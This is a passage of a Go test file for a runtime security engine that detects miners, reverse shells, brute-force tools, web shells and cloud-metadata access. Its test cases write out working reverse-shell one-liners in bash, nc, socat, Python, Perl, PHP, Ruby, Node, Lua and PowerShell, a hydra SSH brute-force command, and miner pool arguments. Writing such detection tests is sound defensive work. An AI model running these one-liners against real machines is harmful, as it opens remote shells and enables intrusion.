package policy

import (
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"
)

// command starts a program by its path and arguments.
func command(path string, args ...string) *Event {
	ev := launch(path, path)
	ev.Program.Command = append([]string{base(path)}, args...)
	return ev
}

// below starts a program below others, nearest first.
func below(ev *Event, parents ...string) *Event {
	ev.Subject.Path = parents[0]
	for _, p := range parents[1:] {
		ev.Subject.Ancestors = append(ev.Subject.Ancestors, Ancestor{Path: p})
	}
	return ev
}

func with(ev *Event, change func(*Event)) *Event {
	change(ev)
	return ev
}

func TestProcessDetections(t *testing.T) {
	on := new(Prevent)
	only := func(d ProcessDetections) *Engine {
		return compile(t, Rule{Processes: &ProcessesSection{Effect: new(Alert), Detect: d}})
	}
	var (
		modified = only(ProcessDetections{Modified: on})
		newer    = only(ProcessDetections{NewBinaries: on})
		altered  = only(ProcessDetections{AlteredPackages: on})
		miners   = only(ProcessDetections{CryptoMiners: on})
		reverse  = only(ProcessDetections{ReverseShell: on})
		lateral  = only(ProcessDetections{LateralMovement: on})
		fileless = only(ProcessDetections{Fileless: on})
		writable = only(ProcessDetections{WritablePath: on})
		setuid   = only(ProcessDetections{SetUID: on})
		web      = only(ProcessDetections{ShellsFromServers: on})
		packages = only(ProcessDetections{PackageManagersFromServers: on})
		main     = only(ProcessDetections{OnlyMainProcess: on})
	)
	ls := func(change func(*Program)) *Event {
		return with(command("/bin/ls"), func(ev *Event) { change(&ev.Program) })
	}
	for _, c := range []struct {
		name   string
		e      *Engine
		ev     *Event
		want   Detection // NothingDetected: silent
		reason string    // part of it
	}{
		{"modified", modified, ls(func(p *Program) { p.Modified = true }), ModifiedProcess, `"/bin/ls" was written after`},
		{"not modified", modified, ls(func(p *Program) { p.New, p.Altered, p.Fileless = true, true, true }), "", ""},
		{"modified, not known", modified, with(command("/bin/ls"), func(ev *Event) { ev.Unsure = NeedModified }), ModifiedProcess, "could not be found out"},
		{"another fact is not known", modified, with(command("/bin/ls"), func(ev *Event) { ev.Unsure = NeedPackages }), "", ""},
		{"new", newer, ls(func(p *Program) { p.New = true }), NewProcess, "was made after"},
		{"altered", altered, ls(func(p *Program) { p.Altered = true }), AlteredBinary, "not as its package"},
		{"fileless", fileless, with(launch("/proc/self/fd/3", ""), func(ev *Event) { ev.Program.Fileless = true }), Fileless, "/proc/self/fd/3"},
		{"writable", writable, ls(func(p *Program) { p.Writable = true }), WritablePath, "anybody may write"},
		{"setuid", setuid, ls(func(p *Program) { p.SetUID = true }), SetUID, "gains privileges"},
		{"main", main, ls(func(p *Program) { p.Main = true }), "", ""},
		{"not main", main, ls(func(*Program) {}), UnexpectedProcess, "not the main process"},

		{"xmrig", miners, command("/tmp/xmrig"), CryptoMiner, `"xmrig"`},
		{"XMRig with a version", miners, command("/tmp/XMRig-6.21.0"), CryptoMiner, "crypto miner"},
		{"a link to it", miners, launch("/usr/bin/app", "/opt/xmrig"), CryptoMiner, `"xmrig"`},
		{"behind a loader", miners, with(command("/lib/ld.so"), func(ev *Event) { ev.Program.Loaded = "/tmp/minerd" }), CryptoMiner, `"minerd"`},
		{"stratum", miners, command("/tmp/a", "-o", "stratum+tcp://1.2.3.4:3333"), CryptoMiner, "stratum"},
		{"stratum in a shell's command", miners, command("/bin/sh", "-c", "./a -o stratum+ssl://x:1"), CryptoMiner, "stratum"},
		{"stratum in other letters", miners, command("/tmp/a", "-o", "x://y STRATUM+TCP://1.2.3.4:3333"), CryptoMiner, "stratum"},
		{"stratum in a text", miners, command("/bin/echo", "stratum+tcp is a protocol", "https://stratum.test/"), "", ""},
		{"pool in other letters", miners, command("/tmp/a", "Pool.SupportXMR.com:443"), CryptoMiner, "SupportXMR.com"},
		{"option", miners, command("/tmp/a", "--donate-level=1"), CryptoMiner, `"--donate-level"`},
		{"abbreviated option", miners, command("/tmp/a", "--donate-l=1"), CryptoMiner, `"--donate-level"`},
		{"algorithm", miners, command("/tmp/a", "-a", "rx/0"), CryptoMiner, `"rx/0"`},
		{"algorithm with an equals sign", miners, command("/tmp/a", "--algo=cn/r"), CryptoMiner, `"cn/r"`},
		{"pool", miners, command("/tmp/a", "-o", "pool.supportxmr.com:443"), CryptoMiner, "supportxmr.com"},
		{"pool in a URL with a port", miners, command("/tmp/a", "--url=tls://xmr.nanopool.org:14433"), CryptoMiner, "nanopool.org"},
		{"reading about a pool", miners, command("/usr/bin/curl", "https://supportxmr.com/help"), "", ""},
		{"a pool's name inside another", miners, command("/usr/bin/curl", "notsupportxmr.com:443"), "", ""},
		{"archiver", miners, command("/bin/tar", "-a", "-cf", "x.tar"), "", ""},
		{"java", miners, command("/usr/bin/java", "-jar", "app.jar", "--algo=sha256"), "", ""},

		{"shell with a remote keyboard", reverse, with(command("/bin/bash"), func(ev *Event) { ev.Program.RemoteIO = true }), ReverseShell, "another machine"},
		{"python with one", reverse, with(command("/usr/bin/python3.12"), func(ev *Event) { ev.Program.RemoteIO = true }), ReverseShell, "another machine"},
		{"a server with one (inetd)", reverse, with(command("/usr/sbin/in.ftpd"), func(ev *Event) { ev.Program.RemoteIO = true }), "", ""},
		{"a shell, not known", reverse, with(command("/bin/sh"), func(ev *Event) { ev.Unsure = NeedRemoteIO }), ReverseShell, ""},
		{"a shell of unknown arguments", reverse, with(command("/bin/sh"), func(ev *Event) { ev.Unsure = NeedArgv }), ReverseShell, ""},
		{"a program of unknown arguments", miners, with(command("/bin/ls"), func(ev *Event) { ev.Unsure = NeedArgv }), CryptoMiner, "could not be found out"},
		{"ls, not known", reverse, with(command("/bin/ls"), func(ev *Event) { ev.Unsure = NeedRemoteIO }), "", ""},
		{"/dev/tcp", reverse, command("/bin/bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), ReverseShell, "/dev/tcp"},
		{"nc -e", reverse, command("/usr/bin/nc", "10.0.0.1", "4444", "-e", "/bin/sh"), ReverseShell, "/bin/sh"},
		{"nc with options in one", reverse, command("/usr/bin/nc.traditional", "-lvpe", "bash", "4444"), ReverseShell, "bash"},
		{"ncat --exec", reverse, command("/usr/bin/ncat", "--exec", "/bin/bash", "10.0.0.1", "4444"), ReverseShell, "/bin/bash"},
		{"busybox nc -e", reverse, with(command("/bin/busybox", "nc", "10.0.0.1", "1", "-e", "ash -i"), func(ev *Event) { ev.Program.Applet = "nc" }), ReverseShell, "ash"},
		{"nc with the shell behind its option", reverse, command("/usr/bin/nc", "-nve/bin/sh", "10.0.0.1", "4444"), ReverseShell, "/bin/sh"},
		{"nc with an interpreter", reverse, command("/usr/bin/nc", "-e", "python3", "10.0.0.1", "4444"), ReverseShell, "python3"},
		{"nc with a copy of a shell", reverse, command("/usr/bin/nc", "10.0.0.1", "4444", "-e", "/tmp/x"), ReverseShell, "/tmp/x"},
		{"ncat with a short long option", reverse, command("/usr/bin/ncat", "--e", "sh", "10.0.0.1", "4444"), ReverseShell, "sh"},
		{"ncat for a shell's command", reverse, command("/usr/bin/ncat", "--sh-ex=id; sh", "10.0.0.1", "4444"), ReverseShell, "id; sh"},
		{"nc to a machine of such a name", reverse, command("/usr/bin/nc", "-w", "5", "/bin/sh", "80"), "", ""},
		{"ncat with TLS", reverse, command("/usr/bin/ncat", "--ssl", "--listen", "--send-only", "10.0.0.1", "4444"), "", ""},
		{"nc.openbsd with TLS", reverse, command("/usr/bin/nc.openbsd", "-c", "db.example.com", "443"), "", ""},
		{"nc alone", reverse, command("/usr/bin/nc", "-z", "db", "5432"), "", ""},
		{"socat", reverse, command("/usr/bin/socat", "TCP:10.0.0.1:4444", "EXEC:/bin/sh,pty"), ReverseShell, "EXEC:"},
		{"socat in other letters", reverse, command("/usr/bin/socat", "Exec:sh,pty", "tcp:10.0.0.1:4444"), ReverseShell, "Exec:"},
		{"socat with a pair", reverse, command("/usr/bin/socat", "TCP:10.0.0.1:4444", "OPEN:/tmp/x!!SYSTEM:sh"), ReverseShell, "SYSTEM:"},
		{"socat between sockets", reverse, command("/usr/bin/socat", "TCP-LISTEN:1", "UNIX:/run/x"), "", ""},
		{"python", reverse, command("/usr/bin/python3", "-c", `import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")`), ReverseShell, "socket"},
		{"perl", reverse, command("/usr/bin/perl", "-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("/bin/sh -i");`), ReverseShell, "socket"},
		{"php", reverse, command("/usr/bin/php8.2", "-r", `$s=fsockopen("10.0.0.1",1);exec("/bin/sh -i <&3 >&3 2>&3");`), ReverseShell, "socket"},
		{"perl with what it reads as commands", reverse, command("/usr/bin/perl", "-MIO", "-e", `$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:1");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`), ReverseShell, "socket"},
		{"python with pipes", reverse, command("/usr/bin/python3", "-c", `import socket,subprocess as p;s=socket.create_connection(("10.0.0.1",1))
while 1: s.send(p.Popen(s.recv(99),shell=True,stdout=-1).stdout.read())`), ReverseShell, "socket"},
		{"ruby with pipes", reverse, command("/usr/bin/ruby", "-rsocket", "-e", `c=TCPSocket.new("10.0.0.1","1");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end`), ReverseShell, "socket"},
		{"node with pipes", reverse, command("/usr/bin/node", "-e", `var n=require("net"),c=require("child_process").spawn("sh",[]),s=new n.Socket();s.connect(1,"10.0.0.1",()=>{s.pipe(c.stdin);c.stdout.pipe(s)})`), ReverseShell, "socket"},
		{"lua with pipes", reverse, command("/usr/bin/lua5.4", "-e", `local t=require("socket").tcp();t:connect("10.0.0.1",1);while true do t:send(io.popen(t:receive()):read("*a")) end`), ReverseShell, "socket"},
		{"PowerShell", reverse, command("/usr/bin/pwsh", "-c", `$c=New-Object Net.Sockets.TCPClient("10.0.0.1",1);$s=$c.GetStream();while(($i=$s.Read($b,0,99)) -ne 0){iex $d}`), ReverseShell, "socket"},
		{"python waits for a port and goes on", reverse, command("/usr/bin/python3", "-c", `import socket,subprocess;socket.create_connection(("db",5432));subprocess.call(["app"])`), "", ""},
		{"node asks a server", reverse, command("/usr/bin/node", "-e", `const s=new (require("net").Socket)();s.connect(80,"web");s.on("data",d=>console.log(d.toString()))`), "", ""},
		{"python and a socket", reverse, command("/usr/bin/python3", "-c", `import socket; print(socket.gethostname())`), "", ""},

		{"nmap", lateral, command("/usr/bin/nmap"), LateralMovement, "nmap"},
		{"ls", lateral, command("/bin/ls"), "", ""},
		{"hydra", lateral, command("/usr/bin/hydra", "-l", "root", "-P", "words", "ssh://10.0.0.1"), LateralMovement, "hydra"},
		{"hydra with the machine first", lateral, command("/usr/bin/hydra", "10.0.0.1", "-l", "root", "ssh"), LateralMovement, "hydra"},
		{"hydra alone", lateral, command("/usr/bin/hydra"), LateralMovement, "hydra"},
		{"another hydra", lateral, command("/usr/bin/hydra", "serve", "all"), "", ""},
		{"another medusa", lateral, command("/app/node_modules/.bin/medusa", "db:migrate"), "", ""},
		{"nmap that is told to serve", lateral, command("/usr/bin/nmap", "serve"), LateralMovement, "nmap"},
		{"a responder", lateral, command("/app/responder"), "", ""},

		{"shell below nginx", web, below(command("/bin/sh"), "/usr/sbin/nginx"), WebShell, `"/usr/sbin/nginx"`},
		{"shell further below", web, below(command("/bin/sh"), "/usr/bin/env", "/usr/sbin/php-fpm8.2", "/sbin/tini"), WebShell, "php-fpm"},
		{"busybox below nginx", web, below(with(command("/bin/busybox"), func(ev *Event) { ev.Program.Applet = "ash" }), "/usr/sbin/nginx"), WebShell, `"ash"`},
		{"a shell script below nginx", web, below(with(command("/app/x"), func(ev *Event) { ev.Program.Interpreters = list("/bin/bash") }), "/usr/sbin/nginx"), WebShell, `"bash"`},
		{"shell below a shell", web, below(command("/bin/sh"), "/bin/bash", "/sbin/tini"), "", ""},
		{"lighttpd's configuration", web, below(command("/bin/bash", "-c", "/usr/share/lighttpd/use-ipv6.pl 80"), "/usr/sbin/lighttpd"), "", ""},
		{"lighttpd's configuration and more", web, below(command("/bin/bash", "-c", "/usr/share/lighttpd/use-ipv6.pl 80; id"), "/usr/sbin/lighttpd"), WebShell, "lighttpd"},
		{"its command by another server", web, below(command("/bin/bash", "-c", "/usr/share/lighttpd/use-ipv6.pl 80"), "/usr/sbin/nginx"), WebShell, "nginx"},
		{"a command of Erlang's machine", web, below(command("/bin/sh", "-s", "unix:cmd"), "/bin/dash", "/usr/lib/erlang/erts-13.1.5/bin/erl_child_setup", "/usr/lib/erlang/erts-13.1.5/bin/beam.smp"), "", ""},
		{"ls below nginx", web, below(command("/bin/ls"), "/usr/sbin/nginx"), "", ""},
		{"shell below nobody known", web, command("/bin/sh"), WebShell, "not known"},
		{"apt below redis", packages, below(command("/usr/bin/apt-get"), "/bin/sh", "/usr/bin/redis-server"), UnexpectedProcess, "redis-server"},
		{"apt below a shell", packages, below(command("/usr/bin/apt-get"), "/bin/sh"), "", ""},
	} {
		t.Run(c.name, func(t *testing.T) { expect(t, c.e.Decide(c.ev), c.want, c.reason) })
	}
}

// expect fails the test unless the verdict prevents d with a reason that holds
// part, or is silent if d is NothingDetected.
func expect(t *testing.T, v Verdict, d Detection, part string) {
	t.Helper()
	switch {
	case v.Detection != d || v.Allow != (d == NothingDetected):
		t.Errorf("got %+v, want %q", v, d)
	case d != NothingDetected && (v.Effect != Prevent || !strings.Contains(v.Reason, part) || v.Reason == ""):
		t.Errorf("got %+v, want a reason with %q", v, part)
	}
}

func TestNetworkDetections(t *testing.T) {
	on := new(Prevent)
	metadata := compile(t, Rule{Network: &NetworkSection{Effect: new(Alert), Detect: NetworkDetections{CloudMetadata: on}}})
	scan := compile(t, Rule{Network: &NetworkSection{Effect: new(Alert), Detect: NetworkDetections{PortScan: on}}})
	raw := compile(t, Rule{Network: &NetworkSection{Effect: new(Alert), Detect: NetworkDetections{RawSockets: on}}})
	pools := compile(t, Rule{
		Network: &NetworkSection{Effect: new(Alert), Detect: NetworkDetections{MinerPools: on}},
		DNS:     &DNSSection{Effect: new(Alert), Detect: DNSDetections{MinerPools: on}},
	})
	unresolved := compile(t, Rule{Network: &NetworkSection{Effect: new(Alert), Outbound: OutboundSection{Unresolved: on}}})
	names := compile(t, Rule{Network: &NetworkSection{Effect: on, Outbound: OutboundSection{
		Allow: list("10.0.0.0/8"), AllowNames: list("*.example.com"), DenyNames: list("bad.example.com"),
	}}})
	translate := compile(t, Rule{Network: &NetworkSection{Effect: on, Outbound: OutboundSection{Deny: list("10.0.0.0/8")}}})
	anyName := compile(t, Rule{Network: &NetworkSection{Effect: on, Outbound: OutboundSection{AllowNames: list("*")}}})
	exempt := compile(t, Rule{Network: &NetworkSection{Effect: new(Disable), Outbound: OutboundSection{Allow: list("169.254.170.2"), Unresolved: on}}})
	named := func(addr, name string) *Event {
		return with(outbound(addr), func(ev *Event) { ev.Name, ev.Resolved = name, true })
	}
	also := func(ev *Event, names ...string) *Event {
		ev.Aliases = names
		return ev
	}
	scans := func(s Scan) *Event { return with(outbound("10.0.0.1:22"), func(ev *Event) { ev.Scan = s }) }
	for _, c := range []struct {
		name   string
		e      *Engine
		ev     *Event
		want   Detection
		reason string
	}{
		{"metadata", metadata, outbound("169.254.169.254:80"), CloudMetadata, "169.254.169.254"},
		{"credentials of a task", metadata, outbound("169.254.170.2:80"), CloudMetadata, "169.254.170.2"},
		{"metadata, IPv6", metadata, outbound("[fd00:ec2::254]:80"), CloudMetadata, "fd00:ec2::254"},
		{"metadata, link-local", metadata, outbound("[fe80::a9fe:a9fe%1]:80"), CloudMetadata, "fe80::a9fe:a9fe"},
		{"metadata, another cloud's", metadata, outbound("169.254.42.42:80"), CloudMetadata, "169.254.42.42"},
		{"the wire server", metadata, outbound("168.63.129.16:32526"), CloudMetadata, "168.63.129.16"},
		{"the wire server through a translator", metadata, outbound("[64:ff9b::168.63.129.16]:80"), CloudMetadata, "168.63.129.16"},
		{"the wire server as a name server", metadata, outbound("168.63.129.16:53"), "", ""},
		{"metadata, mapped", metadata, outbound("[::ffff:169.254.169.254]:80"), CloudMetadata, "169.254.169.254"},
		{"metadata by name", metadata, named("169.254.169.254:80", "metadata.google.internal"), CloudMetadata, ""},
		{"another link-local address", metadata, outbound("169.254.1.1:80"), "", ""},
		{"many ports", scan, scans(ManyPorts), VerticalPorts, "10.0.0.1"},
		{"many machines", scan, scans(ManyHosts), HorizontalScan, "port 22"},
		{"no scan", scan, scans(NoScan), "", ""},
		{"raw socket", raw, &Event{Kind: RawSocket, Proto: "packet"}, RawTraffic, "packet"},
		{"raw socket, nobody cares", scan, &Event{Kind: RawSocket, Proto: "raw"}, "", ""},
		{"pool by name", pools, named("1.2.3.4:443", "xmr.pool.nanopool.org"), MiningPool, "nanopool.org"},
		{"pool by port", pools, outbound("8.8.8.8:14444"), MiningPool, "14444"},
		{"that port of a known name", pools, named("8.8.8.8:14444", "db.example.com"), "", ""},
		{"that port inside", pools, outbound("10.0.0.1:3333"), "", ""},
		{"lookup of a pool", pools, lookup("XMR.Nanopool.org."), MiningPool, "nanopool.org"},
		{"lookup of another name", pools, lookup("notnanopool.org"), "", ""},
		{"unresolved", unresolved, outbound("8.8.8.8:443"), Unresolved, "8.8.8.8"},
		{"resolved", unresolved, named("8.8.8.8:443", "dns.google"), "", ""},
		{"unresolved loopback", unresolved, outbound("127.0.0.1:443"), "", ""},
		{"nobody knows", unresolved, with(named("8.8.8.8:443", "dns.google"), func(ev *Event) { ev.Unsure = NeedNames }), Unresolved, "could not be found out"},
		{"unresolved but listed, in a disabled section", exempt, outbound("169.254.170.2:80"), "", ""},
		{"unresolved, in a disabled section", exempt, outbound("169.254.170.3:80"), Unresolved, ""},
		{"by address", names, outbound("10.1.2.3:443"), "", ""},
		{"by name", names, named("8.8.8.8:443", "api.Example.com."), "", ""},
		{"by another of its names", names, also(named("8.8.8.8:443", "cdn.test"), "x.test", "api.example.com"), "", ""},
		{"denied by another of its names", names, also(named("8.8.8.8:443", "api.example.com"), "bad.example.com"), DeniedIP, `"bad.example.com" is on the deny list`},
		{"a pool by another name", pools, also(named("1.2.3.4:443", "a.test"), "xmr.pool.nanopool.org"), MiningPool, "nanopool.org"},
		{"a translator's address of a denied one", translate, outbound("[64:ff9b::10.1.2.3]:443"), DeniedIP, "10.1.2.3"},
		{"a translator's address", translate, outbound("[64:ff9b::11.1.2.3]:443"), "", ""},
		{"metadata through a translator", metadata, outbound("[64:ff9b::169.254.169.254]:80"), CloudMetadata, "169.254.169.254"},
		{"metadata through a local translator", metadata, outbound("[64:ff9b:1::169.254.169.254]:80"), CloudMetadata, "169.254.169.254"},
		{"metadata through a tunnel", metadata, outbound("[2002:a9fe:a9fe::1]:80"), CloudMetadata, "169.254.169.254"},
		{"unresolved but listed, through a translator", exempt, outbound("[64:ff9b::169.254.170.2]:80"), "", ""},
		{"a resolver through a translator", compile(t, Rule{Network: &NetworkSection{Effect: on, Detect: NetworkDetections{EncryptedDNS: on}}}), outbound("[64:ff9b::8.8.8.8]:443"), EncryptedDNS, "64:ff9b::808:808"},
		{"another family, with names", names, &Event{Kind: RawSocket, Proto: "vsock"}, DeniedFamily, "vsock"},
		{"another family, unresolved", exempt, &Event{Kind: RawSocket, Proto: "rxrpc"}, DeniedFamily, "rxrpc"},
		{"another family, whole packets", raw, &Event{Kind: RawSocket, Proto: "vsock"}, "", ""},
		{"another family, nobody lists destinations", metadata, &Event{Kind: RawSocket, Proto: "vsock"}, "", ""},
		{"by neither", names, named("8.8.8.8:443", "example.com"), DeniedIP, `8.8.8.8 ("example.com") is not on the allow list`},
		{"a name that no lookup gave", names, with(outbound("8.8.8.8:443"), func(ev *Event) { ev.Name = "api.example.com" }), DeniedIP, "8.8.8.8"},
		{"a denied name", names, named("10.1.2.3:443", "bad.example.com"), DeniedIP, `10.1.2.3: "bad.example.com" is on the deny list`},
		{"any name", anyName, named("8.8.8.8:443", "a.test"), "", ""},
		{"any name, but none", anyName, outbound("8.8.8.8:443"), DeniedIP, "8.8.8.8"},
	} {
		t.Run(c.name, func(t *testing.T) { expect(t, c.e.Decide(c.ev), c.want, c.reason) })
	}
}

func TestFileDetections(t *testing.T) {
	on := new(Prevent)
	only := func(d FileDetections) *Engine {
		return compile(t, Rule{Files: &FilesSection{Effect: new(Alert), Detect: d}})
	}
	binaries := only(FileDetections{Binaries: on})
	certificates := only(FileDetections{Certificates: on})
	logins := only(FileDetections{SSHAndAdminFiles: on})
	typed := func(op, path, kind string) *Event {
		return with(write(op, path), func(ev *Event) { ev.File.Type, ev.File.Image = kind, true })
	}
	for _, c := range []struct {
		name   string
		e      *Engine
		ev     *Event
		want   Detection
		reason string
	}{
		{"a program", binaries, typed("open", "/srv/app", "elf"), ELFChanged, "/srv/app"},
		{"a program where programs lie", binaries, typed("open", "/usr/bin/x", "elf"), BinaryChanged, "/usr/bin/x"},
		{"a library, by dpkg", binaries, below(typed("open", "/usr/lib/x.so", "elf"), "/usr/bin/dpkg"), "", ""},
		{"a program made since", binaries, with(typed("open", "/srv/app", "elf"), func(ev *Event) { ev.File.Image = false }), "", ""},
		{"a text", binaries, typed("open", "/srv/app", "regular"), "", ""},
		{"a new file among programs", binaries, write("create", "/usr/bin/x"), BinaryChanged, "/usr/bin/x"},
		{"a rename over one", binaries, pair("rename", "/tmp/x", "/bin/sh"), BinaryChanged, "/bin/sh"},
		{"the folder moved away", binaries, pair("rename", "/usr", "/usr2"), BinaryChanged, "/usr/"},
		{"a new folder", binaries, write("mkdir", "/usr/bin/x"), "", ""},
		{"by dpkg", binaries, below(write("create", "/usr/bin/x"), "/usr/bin/dpkg"), "", ""},
		{"by a script of dpkg", binaries, below(write("create", "/usr/bin/x"), "/bin/sh", "/usr/bin/dpkg"), "", ""},
		{"by what calls itself dpkg", binaries, below(write("create", "/usr/bin/x"), "/tmp/dpkg"), BinaryChanged, ""},
		{"after it was written", binaries, typed(OpWritten, "/usr/bin/x", "elf"), "", ""},
		{"certificate", certificates, write("create", "/usr/local/share/ca-certificates/x.crt"), RegularFile, "certificates"},
		{"bundle of python", certificates, with(write("open", "/usr/lib/python3/certifi/cacert.pem"), func(ev *Event) { ev.File.Image = true }), RegularFile, ""},
		{"bundle that pip brings", certificates, write("create", "/app/venv/lib/certifi/cacert.pem"), "", ""},
		{"private key", certificates, typed("open", "/srv/tls.key", "secret"), RegularFile, "private key"},
		{"another file", certificates, write("open", "/srv/x"), "", ""},
		{"passwd", logins, write("open", "/etc/passwd"), AdminAccount, "/etc/passwd"},
		{"passwd replaced", logins, pair("rename", "/etc/npasswd", "/etc/passwd"), AdminAccount, ""},
		{"sudoers", logins, write("create", "/etc/sudoers.d/x"), AdminAccount, ""},
		{"etc mounted over", logins, pair("mount", "/etc", "tmpfs"), AdminAccount, ""},
		{"keys", logins, write("create", "/root/.ssh/authorized_keys"), SSHAccess, "SSH"},
		{"PAM", logins, write("create", "/etc/pam.conf"), AdminAccount, ""},
		{"a folder moved to where keys lie", logins, pair("rename", "/tmp/x", "/root/.ssh"), SSHAccess, "/root/.ssh"},
		{"the folder of keys as a link", logins, with(write("symlink", "/root/.ssh"), func(ev *Event) { ev.File.To = "/tmp/x" }), SSHAccess, "/root/.ssh"},
		{"the folder of keys, new", logins, write("mkdir", "/root/.ssh"), "", ""},
		{"known hosts", logins, write("create", "/root/.ssh/known_hosts"), "", ""},
		{"a link to shadow", logins, pair("link", "/etc/shadow", "/tmp/x"), AdminAccount, ""},
		{"a symbolic link to shadow", logins, pair("symlink", "/tmp/x", "/etc/shadow"), "", ""},
	} {
		t.Run(c.name, func(t *testing.T) { expect(t, c.e.Decide(c.ev), c.want, c.reason) })
	}
}

// What a file holds is known too late to prevent.
func TestContent(t *testing.T) {
	sha, md := strings.Repeat("AB", 32), strings.Repeat("cd", 16)
	section := &FilesSection{
		Effect: new(Prevent), Deny: list("/srv"),
		Malware: list("sha256:"+sha+" Mirai", "md5:"+md), Trusted: list("sha256:" + strings.Repeat("1", 64)),
		Detect: FileDetections{
			PackedBinaries: new(Inherit), SuspiciousELF: new(Prevent), ForeignArchitecture: new(Alert), Malware: new(Block), PrivateKeys: new(Alert),
		},
	}
	e := compile(t, Rule{Files: section})
	written := func(f File) *Event {
		f.Path, f.Op = "/srv/x", OpWritten
		return &Event{Kind: FileWrite, File: f}
	}
	has := func(what Content, detail string) File { return File{Findings: []Finding{{what, detail}}} }
	trusted := has(FoundMalware, "x")
	trusted.SHA256 = strings.Repeat("1", 64)
	for _, c := range []struct {
		name string
		file File
		want Verdict
	}{
		{"nothing", File{}, Verdict{Allow: true}},
		{"packed", has(FoundPacked, "UPX"), Verdict{Allow: true, Effect: Alert, Detection: EncryptedBinary, Reason: `"/srv/x" is packed or encrypted (UPX)`}},
		{"headers", has(FoundELFHeader, ""), Verdict{Allow: true, Effect: Alert, Detection: SuspiciousELF, Reason: `"/srv/x" has headers that keep it from being analysed`}},
		{"foreign", has(FoundForeignELF, "MIPS"), Verdict{Allow: true, Effect: Alert, Detection: ForeignELF, Reason: `"/srv/x" is a program for another processor (MIPS)`}},
		{"key", has(FoundPrivateKey, ""), Verdict{Allow: true, Effect: Alert, Detection: SecretFile, Reason: `"/srv/x" has a private key in it`}},
		{"malware found", has(FoundMalware, "EICAR"), Verdict{Effect: Block, Detection: MalwareFile, Reason: `"/srv/x" is malware (EICAR)`}},
		{"malware listed", File{SHA256: strings.ToLower(sha)}, Verdict{Effect: Block, Detection: MalwareFile, Reason: `"/srv/x" is malware (Mirai)`, Malware: "Mirai"}},
		{"malware by MD5", File{MD5: md}, Verdict{Effect: Block, Detection: MalwareFile, Reason: `"/srv/x" is malware (its digest is on the list)`}},
		{"trusted", trusted, Verdict{Allow: true}},
	} {
		c.want.Rule = "r"
		if v := e.Decide(written(c.file)); v != c.want {
			t.Errorf("%s:\ngot  %+v\nwant %+v", c.name, v, c.want)
		}
	}
	p := &Policy{Version: 1, Rules: []Rule{{Name: "r", Files: section}}}
	const says = "alerts and cannot prevent: what a file holds is known after it was written"
	const start = "; the start of such a program is prevented"
	want := []Fault{{"rules[0].files.detect.packedBinaries", says + start}, {"rules[0].files.detect.suspiciousELF", says + start}}
	if got := p.Notes(); !slices.Equal(got, want) {
		t.Errorf("notes %v", got)
	}
}

// What a program holds is known before it starts.
func TestProgramContent(t *testing.T) {
	sha, trusted := strings.Repeat("ab", 32), strings.Repeat("1", 64)
	section := func(d FileDetections) *FilesSection {
		return &FilesSection{Effect: new(Prevent), Malware: list("sha256:" + sha + " Mirai"), Trusted: list("sha256:" + trusted), Detect: d}
	}
	on := new(Inherit)
	e := compile(t, Rule{Files: section(FileDetections{PackedBinaries: on, SuspiciousELF: new(Alert), ForeignArchitecture: new(Block), Malware: on, PrivateKeys: on})})
	processes := compile(t, Rule{
		Processes: &ProcessesSection{Effect: new(Alert), Deny: list("ls")},
		Files:     section(FileDetections{PackedBinaries: on, Malware: new(Alert)}),
	})
	holds := func(sha string, what ...Content) *Event {
		return with(launch("/bin/ls", "/bin/ls"), func(ev *Event) {
			is := Contents{Path: "/bin/ls", SHA256: sha}
			for _, w := range what {
				is.Findings = append(is.Findings, Finding{What: w})
			}
			ev.Program.Contents = []Contents{{Path: "/bin/sh"}, is}
		})
	}
	unsure := with(launch("/bin/ls", "/bin/ls"), func(ev *Event) { ev.Unsure = NeedProgramContent })
	for _, c := range []struct {
		name   string
		e      *Engine
		ev     *Event
		want   Detection
		effect Effect
	}{
		{"nothing", e, holds(""), NothingDetected, 0},
		{"malware", e, holds(sha), MalwareProcess, Prevent},
		{"packed", e, holds("", FoundPacked), EncryptedBinary, Prevent},
		{"headers", e, holds("", FoundELFHeader), SuspiciousELF, Alert},
		{"the strictest", e, holds(sha, FoundPacked, FoundELFHeader, FoundForeignELF), ForeignELF, Block},
		{"trusted", e, holds(trusted, FoundPacked, FoundForeignELF), NothingDetected, 0},
		{"a key", e, holds("", FoundPrivateKey), NothingDetected, 0},
		{"not known", e, unsure, MalwareProcess, Prevent},
		{"stricter than the lists", processes, holds(sha, FoundPacked), EncryptedBinary, Prevent},
		{"as strict as the lists", processes, holds(sha), DeniedProcess, Alert},
	} {
		v := c.e.Decide(c.ev)
		if v.Detection != c.want || c.want != NothingDetected && v.Effect != c.effect || v.Allow == v.Effect.Refuses() && v.Tell() {
			t.Errorf("%s: %+v", c.name, v)
		}
		if c.want == MalwareProcess && c.name != "not known" && v.Malware != "Mirai" {
			t.Errorf("%s: the name is %q", c.name, v.Malware)
		}
	}
	if !e.Refuses(Processes) || !e.Needs().Has(NeedProgramContent) {
		t.Error("no program is refused")
	}
}

func TestDigests(t *testing.T) {
	a, b, c := strings.Repeat("a", 64), strings.Repeat("b", 64), strings.Repeat("c", 64)
	deny := compile(t, Rule{Processes: &ProcessesSection{Effect: new(Prevent), Deny: list("sha256:" + strings.ToUpper(a))}})
	allow := compile(t, Rule{Processes: &ProcessesSection{Effect: new(Prevent), Allow: list("sha256:"+a, "ls")}})
	digests := func(ev *Event, d ...string) *Event { ev.Program.Digests = d; return ev }
	script := func() *Event {
		return with(launch("/x", "/x"), func(ev *Event) { ev.Program.Interpreters = list("/i", "/j") })
	}
	loaded := func() *Event { return with(launch("/ld", "/ld"), func(ev *Event) { ev.Program.Loaded = "/x" }) }
	for _, tt := range []struct {
		name string
		e    *Engine
		ev   *Event
		want Detection
	}{
		{"denied", deny, digests(command("/x"), a), DeniedProcess},
		{"another file", deny, digests(command("/x"), b), ""},
		{"denied interpreter", deny, digests(script(), b, c, a), DeniedProcess},
		{"denied behind a loader", deny, digests(loaded(), b, a), DeniedProcess},
		{"no digest", deny, command("/x"), Unreadable},
		{"digest not known", deny, with(digests(command("/x"), ""), func(ev *Event) { ev.Unsure = NeedDigests }), Unreadable},
